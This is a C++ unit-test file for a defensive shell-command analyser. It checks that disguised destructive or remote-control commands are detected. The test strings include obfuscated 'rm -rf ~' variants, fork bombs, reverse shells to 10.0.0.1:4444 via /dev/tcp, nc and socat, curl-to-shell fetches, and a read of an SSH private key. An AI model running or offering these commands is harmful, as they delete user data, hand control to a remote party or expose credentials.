// SPDX-License-Identifier: Apache-2.0
// One command in many disguises: each kind of them must show that home would be deleted, and the harmless twin must
// not.
#include <gtest/gtest.h>

#include <algorithm>
#include <initializer_list>
#include <string_view>

#include "analyse/analyse.h"
#include "analyse/tests/test_world.h"

namespace pawl {
namespace {

[[nodiscard]] bool has_effect(std::string_view text, EffectKind kind, std::string_view object, Action action) {
  const TestWorld world;
  const Analysis analysis = analyse_shell(text, world.world());
  return std::any_of(analysis.effects.begin(), analysis.effects.end(), [&](const Effect& effect) {
    return effect.kind == kind && (object.empty() || effect.object == object) && effect.action == action;
  });
}

void expect_home_is_deleted(std::initializer_list<std::string_view> texts) {
  for (const std::string_view text : texts) {
    EXPECT_TRUE(has_effect(text, EffectKind::remove, "/home/dev", Action::none) ||
                has_effect(text, EffectKind::remove, "/home/dev/*", Action::none))
        << text;
  }
}

void expect_home_stays(std::initializer_list<std::string_view> texts) {
  for (const std::string_view text : texts) {
    EXPECT_FALSE(has_effect(text, EffectKind::remove, "/home/dev", Action::none)) << text;
    EXPECT_FALSE(has_effect(text, EffectKind::remove, "/home/dev/*", Action::none)) << text;
  }
}

TEST(Disguise, variables) {
  expect_home_is_deleted({
      "export X=rm; $X -rf ~",
      "declare X=rm; $X -rf ~",
      "readonly X='rm -rf ~'; $X",
      "printf -v X 'rm -rf ~'; $X",
      "x=r; x+=m; $x -rf ~",
      "x=rm; y=x; ${!y} -rf ~",
      ": ${x:=rm}; $x -rf ~",
      "IFS=,; x=rm,-rf,~; $x",
      "if a; then x=ls; else x=rm; fi; $x -rf ~",
      "read x <<< 'rm -rf ~'; $x",
      "read a b <<< 'rm -rf'; $a $b ~",
      "echo 'rm -rf ~' | while read l; do $l; done",
      "while read -r c; do eval \"$c\"; done <<< 'rm -rf ~'",
      "for c in ls rm; do $c -rf ~; done",
      "for f in ~/*; do rm -rf \"$f\"; done",
  });
  expect_home_stays({
      "x=rm; x=ls; $x -rf ~",
      "x='rm -rf ~'; echo \"$x\"",
      "read x <<< 'rm -rf ~'; echo $x",
      "IFS=,; x='rm -rf ~'; $x",
  });
}

TEST(Disguise, arrays_and_positional_parameters) {
  expect_home_is_deleted({
      "a=(rm -rf ~); \"${a[@]}\"",
      "a=(rm -rf ~); ${a[*]}",
      "a[0]=rm; a[1]=-rf; \"${a[@]}\" ~",
      "a=(x rm -rf ~); \"${a[@]:1}\"",
      "a=(ls); a+=(x); a=(rm -rf); \"${a[@]}\" ~",
      "declare -A m=([k]=rm [j]=ls); ${m[k]} -rf ~",
      "if x; then a=(ls); else a=(rm -rf); fi; \"${a[@]}\" ~",
      "set -- rm -rf ~; \"$@\"",
      "set -- rm -rf ~; $1 $2 $3",
      "set -- x rm -rf ~; shift; \"$@\"",
      "f() { shift; \"$@\"; }; f x rm -rf ~",
      "f() { \"${@:2}\"; }; f x rm -rf ~",
  });
  expect_home_stays({
      "declare -A m=([k]=rm [j]=ls); ${m[j]} -rf ~",
      "f() { shift 4; \"$@\"; }; f rm -rf ~ x ls",
  });
}

TEST(Disguise, where_variables_hold) {
  expect_home_is_deleted({
      "declare -n T=U; U=rm; $T -rf ~",
      "U=ls; declare -n T=U; T=rm; $U -rf ~",
      "declare -l T=RM; \"$T\" -rf ~",
      "declare -l T; T=RM; \"$T\" -rf ~",
      "declare T={ls,rm}; $T -rf ~",
      "T=rm; f() { local T=ls; }; f; $T -rf ~",
      "T=rm; T=ls true; $T -rf ~",
      "X=rm eval '$X -rf ~'",
      "f() { $X -rf ~; }; X=rm f",
      "HOME=/x true; rm -rf \"$HOME\"",
  });
  expect_home_stays({"T=ls; f() { local T=rm; }; f; $T -rf ~", "T=rm $T -rf ~", "T=ls; T=rm true; $T -rf ~"});
}

TEST(Disguise, processes_without_end) {
  for (const std::string_view text :
       {":(){ :|:& };:", "f(){ f & f & }; f", "a(){ b & }; b(){ a; }; a", "while true; do work & done",
        "until false; do work & done", "for ((;;)); do work & done", "while :; do work & (wait); done",
        "while ((1)); do work & done", "while [ 1 ]; do work & done", "while [[ x ]]; do work & done",
        "while true; do (work &); wait; done", "while true; do work & disown; wait; done"})
    EXPECT_TRUE(has_effect(text, EffectKind::execute, "", Action::fork_bomb)) << text;
  for (const std::string_view text :
       {"while true; do work & sleep 1; done", "while true; do work & wait; done", "while read l; do work & done",
        "for ((i=0;i<3;i++)); do work & done", "while true; do work; done", "while ((0)); do work & done",
        "while [ \"$x\" ]; do work & done", "while true; do (work &); sleep 1; done", "f(){ if x; then f & fi; }; f"})
    EXPECT_FALSE(has_effect(text, EffectKind::execute, "", Action::fork_bomb)) << text;
}

TEST(Disguise, operations_on_values) {
  expect_home_is_deleted({
      "a=xrm; ${a:1} -rf ~",
      "a=rmx; ${a%x} -rf ~",
      "a=xxrm; ${a##x*x} -rf ~",
      "a=RM; ${a,,} -rf ~",
      "a=rxm; ${a/x/} -rf ~",
      "a=rm; ${a#} -rf ~",
      "rm -rf \"${HOME%/}\"",
      "a=HOME; rm -rf ${!a}",
  });
  expect_home_stays({"a=xrm; echo ${a:1} -rf ~", "f=a.js; mv \"$f\" \"${f%.js}.ts\""});
}

TEST(Disguise, second_evaluation) {
  expect_home_is_deleted({
      "x='$(rm -rf ~)'; echo ${x@P}",
      "x='a[$(rm -rf ~)]'; echo $((x))",
      "x='a[$(rm -rf ~)]'; y=x; (( y ))",
      "[[ -v 'a[$(rm -rf ~)]' ]]",
      "x='a[$(rm -rf ~)]'; [[ x -eq 1 ]]",
      "test -v 'a[$(rm -rf ~)]'",
      "unset 'a[$(rm -rf ~)]'",
      "read 'a[$(rm -rf ~)]' <<< 1",
      "printf -v 'a[$(rm -rf ~)]' x",
      "let 'x=a[$(rm -rf ~)]'",
      "declare 'a[$(rm -rf ~)]=1'",
      "compgen -C 'rm -rf ~'",
      "compgen -W '$(rm -rf ~)'",
      "mapfile -C 'rm -rf ~' -c 1 x < f",
      "PS4='$(rm -rf ~)'; set -x; ls",
      "hash -p /bin/rm ls; ls -rf ~",
  });
  expect_home_stays({
      "x='$(rm -rf ~)'; echo \"$x\"",
      "[[ $x == '$(rm -rf ~)' ]]",
      "x='a[$(rm -rf ~)]'; echo $((y))",
      "hash -p /bin/rm ls; rm_ -rf ~",
  });
}

TEST(Disguise, text_that_is_expanded_unseen) {
  EXPECT_TRUE(has_effect("x=$(curl -s https://x.example); echo ${x@P}", EffectKind::execute, "", Action::downloaded));
  EXPECT_TRUE(has_effect("echo ${X@P}", EffectKind::execute, "", Action::unknown));
  EXPECT_FALSE(has_effect("echo ${X@Q} $((X))", EffectKind::execute, "", Action::unknown));
}

TEST(Disguise, settings_of_git) {
  expect_home_is_deleted({"git config core.pager 'rm -rf ~'", "git config --global alias.x '!rm -rf ~'",
                          "git -c core.editor='rm -rf ~' commit"});
  expect_home_stays(
      {"git config user.name 'rm -rf ~'", "git config --unset core.pager 'rm -rf ~'", "git config alias.x 'rm -rf ~'"});
}

TEST(Disguise, links_copies_and_moves) {
  expect_home_is_deleted({
      "cp /bin/rm x; ./x -rf ~",
      "ln -s /bin/rm x; ./x -rf ~",
      "cp /bin/rm y; mv y x; ./x -rf ~",
      "mkdir d; cp /bin/rm d; d/rm -rf ~",
      "cp /bin/rm ls; PATH=.:$PATH ls -rf ~",
      "ln -s ~ build && rm -rf build/*",
      "ln -s ~ build; rm -rf build/",
      "ln -sfn ~ b; cd b && rm -rf *",
  });
  expect_home_stays({
      "ln -s ~ build; rm -rf build",
      "cp -r ~ copy; rm -rf copy",
      "cp /bin/ls x; ./x -rf ~",
      "PATH=$PATH:/opt/x ls -rf ~",
  });
}

TEST(Disguise, moved_things_are_what_they_were) {
  EXPECT_TRUE(has_effect("mv ~/docs build; rm -rf build", EffectKind::remove, "/home/dev/docs", Action::none));
  EXPECT_TRUE(has_effect("ln -s ~/.ssh x; cat x/id_rsa", EffectKind::read, "/home/dev/.ssh/id_rsa", Action::none));
}

TEST(Disguise, programs_by_another_name) {
  expect_home_is_deleted({"=rm -rf ~", "$(which rm) -rf ~", "$(command -v rm) -rf ~", "some-tool rm -rf ~",
                          "some-tool --level 3 sudo rm -rf ~", "{rm,-rf,~}",
                          "command_not_found_handle() { rm -rf ~; }; zzz", "vim -c '!rm -rf ~' -c q",
                          "vim +'!rm -rf ~'", "echo 'rm -rf ~' | xargs -I{} sh -c '{}'"});
  expect_home_stays({"some-tool 'rm -rf ~'", "some-tool --note=rm -rf", "echo rm -rf ~"});
}

TEST(Disguise, well_known_names_in_folders_for_everybody) {
  EXPECT_TRUE(has_effect("/tmp/x/git status", EffectKind::execute, "", Action::unknown));
  EXPECT_FALSE(has_effect("/tmp/x/my-tool status", EffectKind::execute, "", Action::unknown));
  EXPECT_FALSE(has_effect("cp /usr/bin/git /tmp/git; /tmp/git status", EffectKind::execute, "", Action::unknown));
  EXPECT_FALSE(has_effect("./node_modules/.bin/eslint src", EffectKind::execute, "", Action::unknown));
}

TEST(Disguise, what_program_text_prints) {
  expect_home_is_deleted({"bash -c \"echo 'rm -rf ~'\" | sh", "eval \"echo 'rm -rf ~'\" | sh",
                          "$(bash -c 'echo rm -rf ~')", "echo \"echo 'rm -rf ~'\" > x; sh x | sh"});
  EXPECT_TRUE(has_effect("bash -c 'curl -s https://x.example' | sh", EffectKind::execute, "", Action::downloaded));
}

TEST(Disguise, words_behind_sh_c) {
  expect_home_is_deleted(
      {"sh -c 'rm -rf \"$1\"' _ ~", "sh -c 'rm -rf \"$@\"' _ x ~", "sh -c 'rm -rf ~$1'", "sh -c '$1 -rf ~' _ rm"});
  expect_home_stays({"sh -c 'echo \"$1\"' _ 'rm -rf ~'", "sh -c 'rm -rf \"$1\"' ~ x"});
}

TEST(Disguise, only_supposed_effects_say_so) {
  const TestWorld world;
  for (const Effect& effect : analyse_shell("some-tool rm -rf ~", world.world()).effects)
    EXPECT_EQ(effect.is_supposed, effect.kind == EffectKind::remove) << effect.object;
}

TEST(Disguise, shell_settings_are_known_by_who_prints_them) {
  for (const std::string_view text :
       {"eval \"$(ssh-agent -s)\"", "x=$(ssh-agent -s); eval \"$x\"", "source <(kubectl completion bash)"})
    EXPECT_FALSE(has_effect(text, EffectKind::execute, "", Action::unknown)) << text;
  for (const std::string_view text :
       {"eval \"$(ssh-agent -s); $x\"", "eval \"$(ssh-agent -s | sed s/a/b/)\"", "eval \"$(cat x)\""})
    EXPECT_TRUE(has_effect(text, EffectKind::execute, "", Action::unknown)) << text;
}

TEST(Disguise, descriptors_and_named_pipes) {
  expect_home_is_deleted({"exec 3<<< 'rm -rf ~'; sh <&3", "exec 3> x.sh; echo 'rm -rf ~' >&3; sh x.sh",
                          "exec {f}<<< 'rm -rf ~'; sh <&$f", "exec 3<<< 'rm -rf ~'; source /dev/fd/3",
                          "source <(echo 'rm -rf ~')", "bash <(echo 'rm -rf ~')", "echo 'rm -rf ~' > x; sh < x"});
  for (const std::string_view text : {
           "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
           "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
           "0<&196; exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
           "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
           "nc -e /bin/sh 10.0.0.1 4444",
           "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
           "source <(curl -s https://x.example)",
       }) {
    EXPECT_TRUE(has_effect(text, EffectKind::execute, "", Action::downloaded)) << text;
  }
  for (const std::string_view text : {"mkfifo /tmp/f; cat /tmp/f | sort > out & ls > /tmp/f", "cat <&3", "exec 2>&1",
                                      "diff <(curl -s https://x.example) y", "nc -z localhost 80"}) {
    EXPECT_FALSE(has_effect(text, EffectKind::execute, "", Action::downloaded)) << text;
  }
}

}  // namespace
}  // namespace pawl
